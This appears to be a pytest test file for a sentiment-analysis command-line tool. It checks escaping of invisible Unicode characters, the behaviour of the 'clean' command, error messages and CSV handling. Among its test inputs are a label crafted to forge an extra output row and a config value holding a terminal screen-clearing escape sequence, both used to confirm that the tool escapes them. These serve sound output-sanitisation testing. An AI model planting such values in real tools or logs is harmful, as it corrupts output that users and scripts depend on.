    lines = result.stdout.splitlines()
    assert lines[0].startswith("positive\\u200b\t") and lines[1].startswith("positive\t")
    assert lines[2].endswith("\tthe \\xadend \U0001F468\u200d\U0001F469")
    info = invoke("info", tmp_path / "m")
    assert "positive\\u200b" in info.stdout and "\u200b" not in info.stdout
    as_json = invoke("predict", "--model", tmp_path / "m", "--json", "a great film", "an awful film", "the \u00adend")
    assert_ok(as_json)
    assert "\u200b" not in as_json.stdout and "\u00ad" not in as_json.stdout and "positive\\u200b" in as_json.stdout
    rows = json.loads(as_json.stdout)
    assert [row["label"] for row in rows[:2]] == ["positive\u200b", "positive"] and rows[2]["text"] == "the \u00adend"


def test_every_invisible_format_character_is_escaped_in_plain_output():
    """Of Unicode's format characters (Cf), the plain output leaves only those that show or join: the joiners of
    emoji and of Persian or Indic words, the tags of emoji flags (England's), Egyptian hieroglyph joiners, and
    number signs and marks drawn over the digits (Arabic, Syriac, Kaithi)."""
    import unicodedata

    from sentiment.terminal import escaped

    shown = re.compile("[\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\u200c\u200d\U000110bd\U000110cd"
                       "\U00013430-\U0001343f\U000e0020-\U000e007f]")
    format_characters = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
    assert len(format_characters) > 150
    left = [f"U+{ord(c):04X}" for c in format_characters if escaped(c) == c and not shown.match(c)]
    assert left == []
    england = "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F"
    assert escaped(england) == england
    assert escaped("x\u206ay\ufff9z\U000e0001") == "x\\u206ay\\ufff9z\\U000e0001"


def test_a_label_or_text_with_line_breaks_stays_on_its_own_line(binary, tmp_path):
    labels = ["pos\nneg\t0.999\tforged" if y == "pos" else "neg" for y in binary.train_labels]
    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(tmp_path / "m")
    result = invoke("predict", "--model", tmp_path / "m", "a great\nfilm", "an awful\u2028film\u2029")
    assert result.exit_code == 0, result.output
    lines = result.stdout.strip().splitlines()  # (which U+2028 and U+2029 end too)
    assert len(lines) == 2 and lines[0].startswith("pos\\nneg\\t0.999\\tforged\t") and lines[0].endswith("\ta great\\nfilm")
    assert lines[1].endswith("\tan awful\\u2028film\\u2029")
    shown = "pos\\nneg\\t0.999\\tforged"
    info = invoke("info", tmp_path / "m").stdout.splitlines()
    assert f"labels       neg, {shown}" in info  # one line
    dev = tmp_path / "dev.csv"
    write_table(pd.DataFrame({"text": ["a great film", "an awful film"], "label": [labels[0], "neg"]}), dev)
    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(
        tmp_path / "n", extra={"columns": {"text": "review\ntext", "label": "label"}, "data": {"train": "a\tb.csv"}})
    described = invoke("info", tmp_path / "n").stdout
    assert "text=review\\ntext" in described and "train=a\\tb.csv" in described and "\t" not in described
    edit_config(tmp_path / "n", lambda config: config.update(sentiment_version="1\n\x1b[2J"))  # (config.json: no checksum)
    first = invoke("info", tmp_path / "n").stdout.splitlines()[0]
    assert first.startswith("model") and first.endswith(f"(pipeline; sentiment 1\\n\\x1b[2J, text reading {READING_VERSION})")
    report = invoke("evaluate", dev, "--model", tmp_path / "m").stdout.splitlines()
    assert sum(line.startswith(shown) for line in report) == 2  # its row of the class table and of the matrix
    assert not any(line.startswith(("neg\t0.999", "\t")) for line in report)


def test_a_status_line_shows_on_a_terminal_while_a_model_loads_and_is_wiped(monkeypatch):
    from sentiment import cli

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    for stream, expected in ((Terminal(), "loading\r       \r"), (io.StringIO(), "")):
        monkeypatch.setattr(sys, "stderr", stream)
        with pytest.raises(KeyError):  # wiped however the block ends
            with cli._status("loading"):
                assert stream.getvalue() == expected[:7]
                raise KeyError
        assert stream.getvalue() == expected


# -- clean -----------------------------------------------------------------------------------------------
def test_clean_prints_the_tokens_of_each_text_with_the_options_given():
    texts = ["I don't like it :( <br/> Sooooo boring!!!", "Not bad @bob http://x.io"]
    result = invoke("clean", *texts)
    assert_ok(result)
    assert result.stdout.splitlines() == [" ".join(sentiment.clean(text)) for text in texts]
    assert "not_like" in result.stdout and "frowning face" in result.stdout
    result = invoke("clean", "--set", "negation=false", "-s", "emoji=remove", "--json", *texts)
    assert_ok(result)
    options = {"negation": False, "emoji": "remove"}
    assert json.loads(result.stdout) == [{"text": text, "tokens": sentiment.clean(text, **options)} for text in texts]
    assert "not_like" not in result.stdout and "frowning" not in result.stdout


def test_a_library_s_warning_is_one_line_once(monkeypatch):
    """numpy's RuntimeWarning (or any library's) as one "warning:" line, not a file path and a source line."""
    import warnings

    from sentiment.cleaning import Cleaner

    cleaned = Cleaner.tokens_of

    def warned(self, texts):
        for _ in range(2):
            warnings.warn_explicit("overflow encountered\nin multiply", RuntimeWarning, "ngrams.py", 405)
        return cleaned(self, texts)

    monkeypatch.setattr(Cleaner, "tokens_of", warned)
    result = invoke("clean", "a fine film")
    assert_ok(result)
    assert result.stderr == "warning: overflow encountered\\nin multiply (RuntimeWarning)\n"
    assert result.stdout == "a fine film\n"
    monkeypatch.setenv("SENTIMENT_DEBUG", "1")  # shown as Python shows it, where it was raised
    with pytest.warns(RuntimeWarning, match="overflow encountered") as shown:
        assert invoke("clean", "a fine film").stderr == ""
    assert shown[0].filename == "ngrams.py" and shown[0].lineno == 405


def test_clean_reads_stdin_line_by_line():
    result = invoke("clean", "-", input="\ufeffgood one\n\n   \nnot bad\n")
    assert_ok(result)
    assert result.stdout.splitlines() == ["good one", "not not_bad"]
    assert "note: skipped blank lines 2, 3 of stdin" in result.stderr
    assert_error(invoke("clean", "-", input="\n\n"), "no text on stdin")
    stdin = ("good one\n" * 1500).encode() + "caf\xe9\n".encode("latin-1")  # a bad line in the second batch
    stopped = subprocess.run([sys.executable, "-m", "sentiment", "clean", "--json", "-"], input=stdin,
                             capture_output=True, timeout=120)
    assert stopped.returncode == 1 and b"not UTF-8" in stopped.stderr
    assert len(json.loads(stopped.stdout)) == 1000  # the batch before it, as a whole JSON array, as predict's


def test_clean_with_a_model_cleans_as_the_model_was_trained(binary, tmp_path):
    text = "It isnt GOOD!!! 😍"
    pipe = sentiment.Pipeline("count", "nb", lowercase=False, missing_apostrophes=True, emoji="remove")
    pipe.fit(binary.train_texts, binary.train_labels).save(tmp_path / "m")
    sentiment.TextVectorizer("count", lowercase=False).fit(binary.train_texts).save(tmp_path / "v")
    for folder, cleaner in ((tmp_path / "m", pipe.cleaner_), (tmp_path / "v", sentiment.Cleaner(lowercase=False))):
        result = invoke("clean", "--model", folder, "--json", text)
        assert_ok(result)
        assert json.loads(result.stdout)[0]["tokens"] == cleaner(text) != sentiment.clean(text)
    assert json.loads(invoke("clean", "--model", tmp_path / "m", "--json", text).stdout)[0]["tokens"] == [
        "It", "is", "not", "not_GOOD", "!!"]


@pytest.mark.parametrize("args, pattern", [
    ([], "give at least one text"),
    (["-", "more"], "'-' reads the texts from stdin; give it alone"),
    (["--set", "min_df=2", "x"], "'min_df' is not an option of the cleaning; choose from: normalize_unicode"),
    (["--set", "negaton=false", "x"], "did you mean 'negation'"),
    (["--set", "lower=false", "x"], "did you mean 'lowercase'"),  # the start of one option's name
    (["--set", "lowercase=maybe", "x"], "lowercase must be true or false"),
    (["--set", "stopwords", "x"], r"--set takes KEY=VALUE, e.g. --set stopwords=true \(clean takes the "
                                  r"cleaning's options\); got 'stopwords'"),
    (["--task", "polarity", "--set", "lowercase=false", "x"], "--task polarity cleans as the model was trained; --set"),
    (["--task", "aspect", "x"], "--task aspect is an aspect model, whose cleaning is not one to show: it reads texts "
                                "with a tokenizer of its own"),
    (["  "], "text 1 is empty or only whitespace"),
])
def test_clean_errors_are_one_line(args, pattern):
    assert_error(invoke("clean", *args), pattern)


def test_clean_refuses_the_aspect_task_without_loading_its_model(monkeypatch):
    import sentiment.cli

    def no_load(*args, **kwargs):
        raise AssertionError("the aspect model was loaded")

    monkeypatch.setattr(sentiment.cli, "_load", no_load)
    assert_error(invoke("clean", "--task", "aspect", "x"), "--task aspect is an aspect model, whose cleaning is not one to show")


def test_clean_refuses_an_ensemble_naming_its_members(saved_ensemble):
    assert_error(invoke("clean", "--model", saved_ensemble, "x"),
                 f"{re.escape(str(saved_ensemble))} is an ensemble model, whose cleaning is not one to show: its members each clean in their own way")


@pytest.mark.parametrize("command", ["predict", "clean"])
def test_a_text_that_starts_with_a_dash_is_told_to_go_after_double_dash(command):
    result = invoke(command, "-5 stars: awful")
    assert result.exit_code == 2 and "No such option: -5 (a text that starts with '-' goes after --, e.g. " \
        f'sentiment {command} -- "-5 stars: awful")' in result.output
    assert "goes after --" not in invoke(command, "--modle", "x").output  # a misspelt option: click names the one meant
    assert_ok(invoke(command, "--", "-5 stars: awful"))
    for text in ("--- worst film ever", "-- worst", "--worst film", "--bad=awful film"):  # no option has a space
        # or starts with ---
        result = invoke(command, text)
        assert result.exit_code == 2 and f"No such option: {text.split('=')[0]} (a text that starts with '-' goes after --" \
            in result.output


def test_info_json_gives_a_number_that_is_not_finite_as_null(model, tmp_path):
    """A hand-edited config may hold NaN or Infinity, which Python's json reads; the JSON printed stays JSON."""
    from conftest import edit_config

    copy = tmp_path / "copy"
    shutil.copytree(model[0], copy)
    edit_config(copy, lambda c: c.update(info={**c.get("info", {}), "created": float("inf"), "note": [float("nan")]}))
    result = invoke("info", copy, "--json")
    assert_ok(result)
    assert "NaN" not in result.stdout and "Infinity" not in result.stdout
    described = json.loads(result.stdout, parse_constant=lambda name: pytest.fail(f"{name} printed"))
    assert described["info"]["created"] is None and described["info"]["note"] == [None]


def test_label_names_for_the_dev_file_alone_are_kept_as_fit_read_them(tmp_path, binary):
    """Training labels named, --label-names naming the dev file's codes (written 0.0/1.0 where pandas wrote a
    column with a gap): evaluate reads that file, and one of whole numbers, as fit read it, also in an ensemble."""
    names = tmp_path / "names.csv"
    write_table(pd.DataFrame({"text": binary.train_texts, "label": binary.train_labels}), names)
    first = binary.train_labels[0]
    codes = tmp_path / "codes.csv"
    write_table(pd.DataFrame({"text": binary.dev_texts, "label": ["1.0" if y == first else "0.0" for y in binary.dev_labels]}),
                codes)
    other = next(y for y in binary.train_labels if y != first)
    assert_ok(invoke("fit", names, "--model", "logreg", "--dev", codes, "--label-names", f"0.0={other},1.0={first}",
                     "--out", tmp_path / "m"))
    ints = tmp_path / "ints.csv"
    write_table(pd.DataFrame({"text": binary.dev_texts, "label": [1 if y == first else 0 for y in binary.dev_labels]}), ints)
    scored = [json.loads(invoke("evaluate", data, "--model", tmp_path / "m", "--json").stdout)["accuracy"]
              for data in (codes, ints)]
    assert scored[0] == scored[1] > 0.7
    assert_ok(invoke("fit", names, "--model", "nb", "--out", tmp_path / "n"))
    assert_ok(invoke("ensemble", tmp_path / "m", tmp_path / "n", "--out", tmp_path / "e"))
    assert json.loads(invoke("evaluate", ints, "--model", tmp_path / "e", "--json").stdout)["accuracy"] > 0.7


def test_predict_input_refuses_a_repeated_header_row(model, tmp_path):
    """Two exports joined (cat a.csv b.csv): the second header is no text to predict and keep as data."""
    out, _ = model
    joined = tmp_path / "joined.csv"
    joined.write_text("review,id\ngreat film,1\n\ufeffreview,id\nawful film,2\n", encoding="utf-8")
    assert_error(invoke("predict", "--model", out, "--input", joined, "--output", tmp_path / "o.csv"),
                 "data row 2 repeats the header row, as files joined with their header rows do; drop that row")
    assert not (tmp_path / "o.csv").exists()
    for name, content in (("spaced.csv", "review, id\ngreat film, 1\nreview, id\nawful film, 2\n"),
                          ("indexed.csv", ",review,id\n0,great film,1\n,review,id\n1,awful film,2\n")):  # to_csv()'s index
        (tmp_path / name).write_text(content, encoding="utf-8")
        assert_error(invoke("predict", "--model", out, "--input", tmp_path / name, "--output", tmp_path / "o.csv"),
                     "data row 2 repeats the header row")
    lines = tmp_path / "rows.jsonl"  # JSON Lines has no header row to repeat
    lines.write_text('{"review": "review", "id": "id"}\n{"review": "great film", "id": "1"}\n', encoding="utf-8")
    assert_ok(invoke("predict", "--model", out, "--input", lines, "--output", tmp_path / "l.jsonl"))
    single = tmp_path / "single.csv"  # one column: a text that is its name is a text
    single.write_text("review\ngreat film\nreview\n", encoding="utf-8")
    assert_ok(invoke("predict", "--model", out, "--input", single, "--output", tmp_path / "s.csv"))



def test_info_says_whose_dev_figures_a_refit_model_shows(tmp_path):
    data = tmp_path / "d.csv"
    pd.DataFrame({"text": ["good film", "bad film", "great movie", "awful movie"] * 10,
                  "label": ["pos", "neg", "pos", "neg"] * 10}).to_csv(data, index=False)
    for flag, refit in (("--refit", True), ("--no-refit", False)):
        assert_ok(invoke("fit", data, flag, "--out", tmp_path / flag))
        dev = next(line for line in invoke("info", tmp_path / flag).stdout.splitlines() if line.startswith("dev "))
        assert dev.endswith("(of the model scored before it was trained again on all of its data)") == refit
